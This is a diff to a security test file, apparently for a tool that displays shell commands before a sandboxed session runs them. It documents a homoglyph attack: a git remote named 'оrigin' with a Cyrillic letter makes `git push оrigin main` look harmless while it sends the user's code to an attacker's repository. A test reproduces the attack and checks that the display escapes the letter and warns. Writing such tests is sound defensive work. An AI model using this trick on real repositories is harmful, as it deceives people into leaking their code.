@@ -39,6 +39,17 @@
  * commit still writes objects, refs, index, logs); or at least have `status`/`diff` show every
  * change to them, with a warning, before the run ends.
  *
+ * Kind 5 (what the human reads is not what runs): letters of another script drawn as the Latin
+ * letters of a word (Cyrillic `о` U+043E, `а`, `с`, `і`, Greek `ο`, ...) are shown verbatim with no
+ * warning: display.ts flags look-alikes of the shell's characters only, and these look like letters.
+ * The word is another word to every program: in a repository the attacker prepared, whose
+ * `.git/config` names a remote `оrigin` (Cyrillic о) at the attacker's URL beside the person's
+ * `origin`, `git push оrigin main` reads as a push to origin and pushes the person's code to the
+ * attacker (likewise a branch, a host name, a file). Fix: a word that mixes scripts, or any
+ * non-ASCII letter whose confusable skeleton (Unicode TR39) is ASCII, is escaped and warned about
+ * (`contains a look-alike of "o": U+043E`), in every place commands are shown; simplest, every
+ * non-ASCII character of a command is escaped with its name.
+ *
  * Tried and held (one line each):
  * - ...
  */
@@ -48,6 +59,7 @@ import { execFileSync } from 'node:child_process';
 import { diffBetween, takeCheckpoint, type Checkpoint } from '../../../src/checkpoint/store';
 import { diffText } from '../../../src/cli/commands/rewind';
 import { describeMessage } from '../../../src/cli/render/messages';
+import { displayCommand } from '../../../src/shared/display';
 import type { Message, RunCommandOutput, ToolResultBlock } from '../../../src/contract';
 import type { BashSession } from '../../../src/session';
 import { commandOutcome } from '../../../src/workflows/tool-results';
@@ -147,5 +159,43 @@ describe("kind 3: code planted in the workspace's .git runs in the person's git 
     } finally {
       fs.rmSync(marker, { force: true });
     }
+  });
+});
+
+describe('kind 5: a letter of another script inside a word', () => {
+  t('`git push \u043erigin main` (Cyrillic o) is flagged, since it pushes to the remote the repository names so', async () => {
+    const ws = tempDir();
+    // Both remotes inside the workspace, which the sandbox shows (its /tmp is its own); in life, two URLs.
+    const person = path.join(ws, '.remotes', 'origin.git');
+    const attacker = path.join(ws, '.remotes', 'attacker.git');
+    const git = (dir: string, ...a: string[]): string =>
+      execFileSync('git', ['-C', dir, '-c', 'user.name=p', '-c', 'user.email=p@example.com', ...a], { encoding: 'utf8' });
+    // The repository as the attacker prepared it: the person's origin, and a look-alike remote.
+    git(ws, 'init', '-q', '-b', 'main');
+    fs.writeFileSync(path.join(ws, 'secret.txt'), 'the person s code\n');
+    git(ws, 'add', 'secret.txt');
+    git(ws, 'commit', '-qm', 'one');
+    git(ws, 'remote', 'add', 'origin', person);
+    git(ws, 'remote', 'add', '\u043erigin', attacker);
+    const command = 'git push \u043erigin main';
+    const s = await startSession({ cwd: ws, workspace: ws });
+    // The two remotes, made by the session user (git's ownership check on the receiving end); in life, two URLs.
+    expect((await s.run('git init -q --bare .remotes/origin.git && git init -q --bare .remotes/attacker.git && echo made')).output).toBe(
+      'made\n',
+    );
+    const r = await s.run(`${command} -q 2>&1; echo rc=$?`);
+    // What ran: the attacker's repository got the branch, the person's did not.
+    expect({
+      output: r.output,
+      attacker: git(attacker, '-c', 'safe.directory=*', 'branch', '--list').trim(),
+      person: git(person, '-c', 'safe.directory=*', 'branch', '--list').trim(),
+    }).toEqual({
+      output: 'rc=0\n',
+      attacker: 'main',
+      person: '',
+    });
+    // What the person reads must say so.
+    const d = displayCommand(command);
+    expect({ shown: d.text, warned: d.warnings.length > 0 }).toEqual({ shown: expect.not.stringContaining('\u043e'), warned: true });
   });
 });
